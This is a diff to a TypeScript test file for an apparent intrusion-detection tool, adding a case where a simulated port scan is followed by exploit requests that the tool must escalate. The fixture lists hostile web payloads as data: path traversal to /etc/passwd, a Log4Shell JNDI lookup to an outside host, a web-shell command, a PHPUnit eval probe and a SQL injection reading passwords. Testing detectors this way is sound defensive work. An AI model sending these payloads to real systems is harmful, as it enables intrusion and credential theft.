@@ -1,7 +1,18 @@
 import { expect, test } from 'vitest';
 import { AddressSet } from '../../src/model/address.ts';
 import { allow, brief, expectScan, incidentsOf, only } from './judged.ts';
-import { conn, connLog, firewallLog, hour, packet, randomNumbers, shuffled, times } from './logs.ts';
+import {
+  accessLog,
+  conn,
+  connLog,
+  firewallLog,
+  hour,
+  packet,
+  randomNumbers,
+  request,
+  shuffled,
+  times,
+} from './logs.ts';
 import type { Line } from './logs.ts';
 import { flowCapture, v5 } from '../flows.ts';
 
@@ -287,6 +298,40 @@ test('19: banners of 40 services, no login: a scan (OAT-004)', async () => {
   const incident = only(await incidentsOf({ 'conn.log': connLog(lines) }));
   expect(incident.verdict).toBe('scan');
   expect(incident.kinds).toContain('banner-grab');
+});
+
+test('20: a scan, then a neighbour exploits what was found: it escalates', async () => {
+  const scan = times(60, (i) =>
+    conn({ at: i * 0.2, from: '203.0.113.66', to: host, port: 20 + i, state: 'REJ' }),
+  );
+  const found = conn({ at: 13, from: '203.0.113.66', to: host, port: 8080, state: 'SF', sent: 0, got: 0 });
+  const paths = [
+    '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
+    '/index.php?page=../../../../etc/passwd',
+    '/?x=${jndi:ldap://203.0.113.99/a}',
+    '/shell.php?cmd=id',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--',
+  ];
+  const exploit = paths.map((path, i) =>
+    request({
+      at: 600 + i * 3,
+      from: '203.0.113.99',
+      path,
+      host: 'app.example.com',
+      status: i === 4 ? 200 : 404,
+      size: i === 4 ? 4711 : 153,
+    }),
+  );
+  const logs = { 'conn.log': connLog([...scan, found]), 'access.log': accessLog(exploit) };
+  const incidents = await incidentsOf(logs);
+  const [worst] = incidents;
+  expect(['high', 'critical']).toContain(worst.severity);
+  expect(worst.techniques).toContain('T1190');
+  // The scanner's incident says what came of it.
+  const scanned = incidents.find(({ kinds }) => kinds.includes('vertical'))!;
+  expect(brief([scanned])[0]).toMatch(/^scan (high|critical)/);
+  expect(JSON.stringify([scanned.followed, scanned.reasons])).toContain('203.0.113.99');
 });
 
 const approved = (more: Partial<Parameters<typeof allow>[2]> = {}): ReturnType<typeof allow> =>
